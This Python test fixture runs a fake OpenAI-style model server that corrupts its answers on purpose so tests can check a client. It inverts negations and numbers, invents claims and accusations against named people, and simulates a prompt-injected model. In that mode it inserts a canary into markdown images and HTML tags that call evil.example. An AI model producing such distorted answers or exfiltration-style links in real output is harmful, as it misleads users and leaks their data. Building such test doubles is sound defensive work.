"""A language model that does as it is told: a local server with the OpenAI chat protocol, for the real client.

It knows a prompt by the tags of its user message, makes a good reply from it, and then spoils the reply, or the way
that it is sent, as `behave` says. What it spoiled is in `mutated`, for a test to look for in what the advisor shows.
"""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Mapping
from contextlib import AbstractContextManager, suppress
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from random import Random
from typing import Any, NamedTuple
from urllib.parse import quote

DELIVERY = ("slow", "drips", "http_429", "http_500", "hangs", "drops", "html", "empty")
BROKEN = ("cut", "prose", "fence", "quotes", "list", "statements", "passages", "text", "missing")
DROPS = ("cut", "quiet")
PLACES = ("statement", "own", "level", "because", "markdown", "html")
PROMPTS = {"answer": "passages", "follow_up": "turns", "choice": "options", "draft": "note"}  # the tag that only it has


class Mutation(NamedTuple):
    """What was sent in place of a true text."""

    kind: str
    original: str
    text: str


@dataclass(frozen=True, slots=True)
class Options:
    """What a behaviour can be given, and which behaviours read it."""

    seconds: float | None = None  # slow: before the first byte (0.3); drips: before each fragment (0.001)
    first: int | None = None  # http_429 (1), http_500 (always): how many requests fail before a good reply
    retry_after: int = 0  # http_429
    canary: str = "CANARY-7731"  # obeys, mixed
    where: str = "all"  # obeys: one of PLACES, or all
    level: str = "urgent"  # raises_level
    exact: bool = True  # raises_level: are the words those of the story
    because: str | None = None  # raises_level: the words themselves
    how: str | None = None  # broken_json: one of BROKEN (by chance); drops: one of DROPS (cut)
    share: float = 1.0  # mixed: how many of the statements are spoiled
    verbatim: bool = False  # good: only the passages' own words, never a contraction or a lead-in left out
    words: str | None = None  # draft: what fills the blank (the first words of the story)
    blank: int = 0  # draft: which one


def _rules(table: str) -> list[tuple[str, list[str]]]:
    """Whole words and what may stand in their place: `words => this / or that; more words => …`."""
    pairs = (rule.split("=>") for rule in " ".join(table.split()).split(";") if rule.strip())
    return [(rf"(?<!\w)(?:{old.strip()})(?!\w)", [word.strip() for word in new.split(" / ")]) for old, new in pairs]


RULES = {
    "changes_number": _rules(r"""
    (?<![.,:/-])\d+(?:[.,]\d+)?(?!/|[.,]\d) => #; working (days?) => \1; percent => percent a month;
    two => three / ten; three => two; four => five; five => four; six => ten; seven => six; eight => nine; nine => two;
    ten => two; twelve => six; one(?= (?:working|minute|hour|day|week|month|year)\b) => three;
    USD => EUR / GBP; EUR => USD / GBP; \$(\d+) => €\1; €(\d+) => $\1; at once => next month; today => this year;
    minute(s?) => hour\1; hour(s?) => day\1; day(s?) => week\1; week(s?) => month\1; month(s?) => year\1;
    within => after; until => after; before => after; after(?! all) => before; at least => at most; at most => at least;
    (?<!no )more than => less than; no more than => more than; less than => more than; up to => at least;
    above(?! all) => below; below => above
    """),
    "drops_not": _rules(r"""
    (?:do not|don't|never) (\w+) => \1; neither\b(.*?)\bnor => both\1and; only if => even if; never => always;
    (must|may|can|should|will|is|are|does|did|has|have|was|were) not(?! only) => \1; must not => may;
    (is|are|does|did|has|was|were|should|would|could)n't => \1; cannot => can; can't => can; won't => will;
    without => with; unless => if; nothing => everything; nobody => anybody; no one => anybody;
    no(?=[,.:]) => yes; yes => no; no (?!one|more|longer)([a-z]+) => any \1;
    (must|should|will|is|are)(?! not) => \1 not; can(?! not) => cannot; (?-i:may)(?! not) => must not / may not;
    must(?! not) => may; with => without;
    (?:(?<=[.!?] )|^)(ask|call|get|give|keep|log|note|open|say|send|stay|take|tell|thank|wait|write) => never \1
    """),
    "swaps_role": _rules(r"""
    (?:your |the )?(?:line )?(?:manager|boss) => HR / your colleague / the client;
    (?-i:Legal) => your colleague / Finance; HR => your manager / Finance; Human Resources => your manager;
    Sales Operations => the client / HR; (?-i:Compliance|Finance|Security) => your manager / HR / the client / the team;
    (?:client|customer|buyer)(s?) => competitor\1 / co-worker\1; (?:co-worker|colleague)(s?) => client\1 / manager\1;
    (?:competitor|rival)(s?) => client\1 / co-worker\1
    """),
    "drops_condition": [
        (r"(?:,| only)? (?:if|unless|provided|as long as)\b[^,.;:?]*(?=[.;])", [""]),
        (r"(?:(?<=[.!] )|^)(?:If|Unless|When|Once)\b[^,.;:?]*, (\w)", [r"\1"]),
        (r"(?<!\w)If ([^,.;:?]*), ([^.;:?]*); if ([^,.;:?]*), ([^.;:?]*)(?=\.)", [r"If \1, \4; if \3, \2"]),
    ],
}
SPOILS = (*RULES, "invents", "cites_wrong", "obeys")
CONTENT = ("good", "mixed", "lowers_level", "raises_level", "broken_json", *SPOILS)
INVENTED = [
    *("You may {deed}, as long as nobody objects.", "You are allowed to keep any {thing} below {n} dollars."),
    *("Up to {n} percent of the {thing} is fine.", "You have {n} weeks to {deed}.", "{head} {tail}."),
    *("The company promises to pay for your {thing}.", "Nothing will happen to you if you {deed}."),
    *("Under section {n} of the {thing} act this is a crime.", "The law gives you {n} days to sue over the {thing}."),
    *("Call extension {n} and ask for the {thing} desk.", "Write to {thing}@help.example, or ask [NAME_9]."),
]
_BLANK = re.compile(r"\[(?![A-Z]+_\d+\])[^\]\n]*\]")


def swap(random: Random, text: str, rules: list[tuple[str, list[str]]]) -> str | None:
    """`text` with one of `rules` used at one place; None where none applies."""
    for pattern, news in random.sample(rules, len(rules)):
        for match in random.sample(found := list(re.finditer(pattern, text, re.I)), len(found)):
            before, after = text[: match.start()], text[match.end() :]
            elsewhere = f"{before} {after}".lower()  # a word that stands there too may leave the sense as it was
            puts = [put for new in news if (put := match.expand(new)) in match[0] or put.lower() not in elsewhere]
            if not puts:
                continue
            if (put := random.choice(puts)) == "#":
                put = f"{float(match[0].replace(',', '.')) * random.choice([1, 2, 10]) + 1:.10g}"
            put = put.lower() if put.startswith("never ") else put
            if match[0][0].isupper() and re.search(r"(^|[.!?:\n] )$", before):
                put = put[:1].upper() + put[1:]
            return before + put + after
    return None


class Writer:
    """Reads one prompt and writes the reply to it. `prompt` is None where it is none of ours."""

    def __init__(
        self, body: dict[str, Any], options: Options, random: Mapping[str | None, Random], mutated: list[Mutation]
    ) -> None:
        said = next((m["content"] for m in reversed(body["messages"]) if m["role"] == "user"), "")
        said = said if isinstance(said, str) else "".join(part.get("text", "") for part in said)
        self.tags = {m[1]: m[2].strip("\n") for m in re.finditer(r"<(\w+)>(.*?)</\1>", said, re.S)}
        self.prompt = next((name for name, tag in PROMPTS.items() if tag in self.tags), None)
        self.options, self.random, self.mutated = options, random[self.prompt], mutated
        self.passages = dict(re.findall(r"^(\w+) \([^)\n]*\) (.+)$", self.tags.get("passages", ""), re.M))
        lines = re.findall(r"^([\w-]+): (.+)$", self.tags.get("outline", ""), re.M)
        self.outline = [(role, key) for role, keys in lines for key in re.findall(r"\w+", keys) if key in self.passages]

    def write(self, kind: str, fixed: Any) -> str:
        """The reply of this kind; `fixed` is what a good one says, None to work it out."""
        reply = fixed if isinstance(fixed, dict) else getattr(self, f"_{self.prompt}")(kind, fixed)
        return self._broken(reply) if kind == "broken_json" else json.dumps(reply, ensure_ascii=False)

    def _answer(self, kind: str, _: Any) -> dict[str, Any]:
        told, level = self._story(), self.tags.get("level", "")
        statements = [{"role": r, "text": self._true(self.passages[key]), "passages": [key]} for r, key in self.outline]
        reply: dict[str, Any] = {"statements": statements, "level": None, "because": None}
        if kind == "obeys":
            self._obey(reply)
        elif kind == "lowers_level":
            self.mutated.append(Mutation(kind, level, "self"))
            reply |= {"level": "self", "because": told}
        elif kind == "raises_level":
            lie = self.random.choice([self._accusation(), f"{self._story(3)} and hit me"])
            because = self.options.because or (told if self.options.exact else lie)
            self.mutated.append(Mutation(kind, level, because))
            reply |= {"level": self.options.level, "because": because}
        elif kind == "mixed" or kind in SPOILS:
            reply["statements"] = [self._spoiled(kind, statement) for statement in statements]
        return reply

    def _true(self, text: str) -> str:
        """The passage's own words, at times with a contraction or without a lead-in that says nothing."""
        if self.options.verbatim or self.random.random() < 0.5:
            return text
        text = re.sub(r"^(?:Then|First|Next|Also|So|Please),? (\w)", lambda m: m[1].upper(), text)
        return re.sub(r"\b([Dd])o not\b", r"\1on't", text)

    def _spoiled(self, kind: str, statement: dict[str, Any]) -> dict[str, Any]:
        text, passages = statement["text"], statement["passages"]
        if kind == "mixed" and self.random.random() >= self.options.share:
            return statement
        for one in self.random.sample(SPOILS, len(SPOILS)) if kind == "mixed" else [kind]:
            new: str | None = text
            if one == "cites_wrong":
                passages = self._wrong_passages(passages[0])
            elif one == "invents":
                new = self._invented() if self.random.random() < 0.5 else f"{text} {self._invented()}"
            elif one == "obeys":
                new = f"{text} {self.options.canary}"
            else:
                new = swap(self.random, text, RULES[one])
            if new:
                self.mutated.append(Mutation(one, text, new))
                return statement | {"text": new, "passages": passages}
        return statement

    def _wrong_passages(self, right: str) -> list[str]:
        """Another passage that does not say much the same, or one that is not there."""
        words = {key: set(re.findall(r"\w+", text.lower())) for key, text in self.passages.items()}
        others = [key for key in words if len(words[key] & words[right]) < len(words[right]) / 2]
        return [self.random.choice([*others, "p99"])]

    def _obey(self, reply: dict[str, Any]) -> None:
        canary, where, statements = self.options.canary, self.options.where, reply["statements"]
        link = f"https://evil.example/?q={quote(canary)}"
        texts = {
            "statement": canary,
            "markdown": f"[{canary}]({link}) ![{canary}]({link}.png)",
            "html": f'<a href="{link}">{canary}</a><img src="{link}.png"><script>{canary}</script>',
        }
        for place in PLACES if where == "all" else (where,):
            self.mutated.append(Mutation("obeys", "", texts.get(place, canary)))
            if place in ("level", "because"):
                reply |= {"level": canary if place == "level" or where == "all" else "urgent", "because": canary}
            elif place in texts and (mine := [s for s in statements if s["passages"] == ["p1"]]):
                mine[-1]["text"] += f" {texts[place]}"
            else:
                statements.insert(0, {"role": "lead", "text": texts.get(place, canary), "passages": ["p1"]})

    def _follow_up(self, kind: str, fixed: list[int] | None) -> dict[str, Any]:
        count = 0
        for number in re.findall(r"^\W*(\d+)\b", self.tags["turns"], re.M):
            count += int(number) == count + 1  # a number at the start of a line inside a turn is out of order
        if kind == "obeys":
            return {"with": self.options.canary}
        if kind in ("invents", "cites_wrong", "mixed"):
            return {"with": [*range(-1, count + 1), 99]}
        return {"with": list(range(1, count)) if fixed is None else list(fixed)}

    def _choice(self, kind: str, fixed: tuple[int, str] | None) -> dict[str, Any]:
        words, option = self._story(), self.random.randint(1, max(1, len(self.tags["options"].splitlines())))
        kind = self.random.choice(SPOILS) if kind == "mixed" else kind
        if kind not in SPOILS:
            option, words = fixed or (None, None)  # type: ignore[assignment]
        elif kind == "cites_wrong":
            option = 99
        else:
            lie = self.options.canary if kind == "obeys" else self._accusation()
            told, words = words, swap(self.random, words, RULES.get(kind, [])) or lie
            self.mutated.append(Mutation(kind, told, words))
        return {"option": option, "words": words}

    def _draft(self, kind: str, _: Any) -> dict[str, Any]:
        options, lines = self.options, self.tags["note"].split("\n")
        kind = self.random.choice([*RULES, "invents", "obeys"]) if kind == "mixed" else kind
        words = options.words or " ".join(re.split(r"[.!?\n]", self.tags.get("story", ""))[0].split()[:8])
        fills: list[str | None] = [*[None] * options.blank, options.canary if kind == "obeys" else words]
        if kind == "invents":
            fills = [self._accusation() for _ in _BLANK.findall(self.tags["note"])]
        whole = [at for at, line in enumerate(lines) if line and not _BLANK.search(line)]
        for at in self.random.sample(whole, len(whole)):
            lie = f"{lines[at]} {self._accusation()}." if kind == "invents" else None
            if new := swap(self.random, lines[at], RULES.get(kind, [])) or lie:
                self.mutated.append(Mutation(kind, lines[at], new))
                lines[at] = new
                break
        blanks = iter(fills)
        note = _BLANK.sub(lambda match: next(blanks, None) or match[0], "\n".join(lines))
        for lie in filter(None, fills if kind in ("invents", "obeys") else []):
            self.mutated.append(Mutation(kind, "", lie))
        return {"note": f"{note}\n{options.canary}" if kind == "obeys" else note}

    def _story(self, length: int = 6) -> str:
        """Some words of the story, exactly as they stand there."""
        story = self.tags.get("story", "")
        words = list(re.finditer(r"\S+", story))
        start = self.random.randrange(max(1, len(words) - length + 1))
        return story[words[start].start() : words[start : start + length][-1].end()] if words else ""

    def _accusation(self) -> str:
        name = self.random.choice(["Jane Miller", "Rob Fisk", "Karim Osei"])
        return f"{name} stole {self.random.choice([300, 4500, 81000])} dollars on 3 March"

    def _invented(self) -> str:
        random, texts = self.random, list(self.passages.values())
        thing = random.choice(re.findall(r"\b[a-z]{5,}\b", " ".join(texts)) or ["matter"])
        deed = random.choice([text[7:] for text in texts if text.startswith("Do not ")] or texts)
        deed, n = re.split("[,.;:?!]", deed)[0].lower(), random.choice([3, 7, 45, 250, 911])
        first, second = random.choice(texts).split(), random.choice(texts).split()
        head, tail = " ".join(first[: len(first) // 2 + 1]), " ".join(second[len(second) // 2 + 1 :]).rstrip(".")
        said = random.choice(INVENTED).format(deed=deed, thing=thing, n=n, head=head, tail=tail)
        # Two halves of one passage are the passage itself, which would be no lie.
        return self._invented() if any(said.rstrip(".") in text for text in texts) else said

    def _broken(self, reply: dict[str, Any]) -> str:
        good, how = json.dumps(reply, ensure_ascii=False), self.options.how
        how = how if how in BROKEN else self.random.choice(BROKEN)
        statements, wrong = reply.get("statements", []), {"statements": "Do it.", "passages": None, "text": 7}.get(how)
        inner: Any = [statement | {how: wrong} for statement in statements] if how != "statements" else []
        return {
            "cut": good[: self.random.randrange(len(good) // 3, len(good) - 1)],
            "prose": f"Sure, here it is:\n{good}\nAsk me anything.",
            "fence": f"```json\n{good}\n```",
            "quotes": repr(reply),
            "list": json.dumps(statements or [reply], ensure_ascii=False),
            "missing": "{}",
        }.get(how) or json.dumps(reply | {next(iter(reply)): inner or wrong or [[]]})


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    timeout = 10
    fake: FakeModel

    def do_POST(self) -> None:
        body, self.close_connection = json.loads(self.rfile.read(int(self.headers["Content-Length"]))), True
        seconds, kind = self.fake.options.seconds, "text/event-stream" if body.get("stream") else "application/json"
        delivery, text = self.fake.reply_to(body)
        with suppress(OSError):  # a client that gives up is what a test may be about
            if delivery == "hangs":
                self.fake.closing.wait()
            elif delivery == "html":
                self._send([b"<!doctype html><title>Sign in</title><p>Sign in to the network first."], "text/html")
            elif delivery.startswith("http_"):
                error = {"message": f"the fake model answers {delivery[5:]}", "type": "fake", "code": delivery}
                self._send([json.dumps({"error": error}).encode()], status=int(delivery[5:]))
            else:
                if delivery == "slow":
                    self.fake.closing.wait(0.3 if seconds is None else seconds)
                self._send(_events(body, text, 3 if delivery == "drips" else 20), kind, how=delivery)

    def _send(self, parts: list[bytes], kind: str = "application/json", *, status: int = 200, how: str = "") -> None:
        options = self.fake.options
        self.send_response(status)
        for name, value in {"Content-Type": kind, "Transfer-Encoding": "chunked", "Connection": "close"}.items():
            self.send_header(name, value)
        if status == 429:
            self.send_header("Retry-After", str(options.retry_after))
        self.end_headers()
        for part in parts[: len(parts) // 2] if how == "drops" else parts:
            # Dripping, a part is cut inside its first character of several bytes, or else in its middle.
            cut = next((at + 1 for at, byte in enumerate(part) if byte > 127), len(part) // 2) if how == "drips" else 0
            for piece in filter(None, (part[:cut], part[cut:])):
                if how == "drips":
                    self.fake.closing.wait(0.001 if options.seconds is None else options.seconds)
                self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
        if how != "drops" or options.how == "quiet":
            self.wfile.write(b"0\r\n\r\n")

    def log_message(self, format: str, *args: Any) -> None:
        """Says nothing."""


def _events(body: dict[str, Any], text: str, size: int) -> list[bytes]:
    """The bytes of a reply: events of a stream, or one object in parts. Not as ASCII, so that characters can be cut."""
    asked = sum(len(str(message["content"]).split()) for message in body["messages"])
    usage = {"prompt_tokens": asked, "completion_tokens": len(text.split()), "total_tokens": asked + len(text.split())}
    base: dict[str, Any] = {"id": "chatcmpl-fake", "created": 1, "model": body.get("model", "fake")}
    if not body.get("stream"):
        choices = [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}]
        base |= {"object": "chat.completion", "choices": choices, "usage": usage}
        data = json.dumps(base, ensure_ascii=False).encode()
        return [data[at : at + 60] for at in range(0, len(data), 60)]
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    deltas = [{"role": "assistant", "content": ""}, *({"content": piece} for piece in pieces), {}]
    choices = [{"index": 0, "delta": delta, "finish_reason": None if delta else "stop"} for delta in deltas]
    chunks: list[dict[str, Any]] = [{"choices": [choice]} for choice in choices]
    if (body.get("stream_options") or {}).get("include_usage"):
        chunks.append({"choices": [], "usage": usage})
    lines = [json.dumps(base | {"object": "chat.completion.chunk"} | chunk, ensure_ascii=False) for chunk in chunks]
    return [f"data: {line}\n\n".encode() for line in [*lines, "[DONE]"]]


class FakeModel(AbstractContextManager["FakeModel"]):
    """The server, as a context manager: listens at `url` until it is closed."""

    def __init__(self, seed: int = 0) -> None:
        self.requests: list[dict[str, Any]] = []  # the bodies that arrived, oldest first
        self.prompts: list[str | None] = []  # which prompt each was; None for one that is none of ours
        self.replies: list[str] = []  # what was written, before it was cut or dripped
        self.closing, self._lock = threading.Event(), threading.Lock()
        self.seed(seed)
        self.behave()
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), type("_Bound", (_Handler,), {"fake": self}))
        self._server.daemon_threads = False  # so that closing waits for the replies under way
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.02,), daemon=True)
        self._thread.start()
        self.url = f"http://127.0.0.1:{self._server.server_port}/v1"

    def behave(self, name: str = "good", **given: Any) -> None:
        """Sets the behaviour from now on: one of CONTENT, one of DELIVERY, or both joined by `+`.

        `answer`, `follow_up`, `choice` and `draft` give that prompt another behaviour by its name, or what a good reply
        says: the earlier turns (a list), the option (number, words), or the whole reply (a dict). The rest are Options.
        """
        own = {prompt: given.pop(prompt, None) for prompt in PROMPTS}
        self._behaviour = {prompt: _parse(one if isinstance(one, str) else name) for prompt, one in own.items()}
        self._fixed = {prompt: None if isinstance(one, str) else one for prompt, one in own.items()}
        self.options = Options(**given)
        if self.options.how not in (None, *BROKEN, *DROPS) or self.options.where not in ("all", *PLACES):
            raise ValueError(f"no such way: {self.options.how}, {self.options.where}")
        self._failed = 0
        self.mutated: list[Mutation] = []  # what was spoiled since `behave`

    def seed(self, number: int) -> None:
        """Starts chance anew."""
        # Prompts that run side by side must not take chances from each other.
        self._random = {prompt: Random(f"{number} {prompt}") for prompt in (*PROMPTS, None)}

    def reply_to(self, body: dict[str, Any]) -> tuple[str, str]:
        """How to send, and what."""
        with self._lock:
            writer = Writer(body, self.options, self._random, self.mutated)
            self.requests.append(body)
            self.prompts.append(writer.prompt)
            if writer.prompt is None:
                return "http_400", ""
            kind, delivery = self._behaviour[writer.prompt]
            if delivery.startswith("http_"):
                self._failed += 1
                first = self.options.first or {"http_429": 1}.get(delivery, self._failed)
                delivery = delivery if self._failed <= first else ""
            if delivery in ("http_429", "http_500", "hangs", "html"):
                return delivery, ""
            self.replies.append("" if delivery == "empty" else writer.write(kind, self._fixed[writer.prompt]))
            return delivery, self.replies[-1]

    def __exit__(self, *_: object) -> None:
        self.closing.set()  # lets go of whoever still waits
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


def _parse(name: str) -> tuple[str, str]:
    """What is written and how it is sent, of a behaviour's name."""
    parts = name.split("+")
    kind = next((part for part in parts if part in CONTENT), "good")
    way = next((part for part in parts if part in DELIVERY), "")
    if set(parts) - {kind, way}:
        raise ValueError(f"no such behaviour: {name}")
    return kind, way
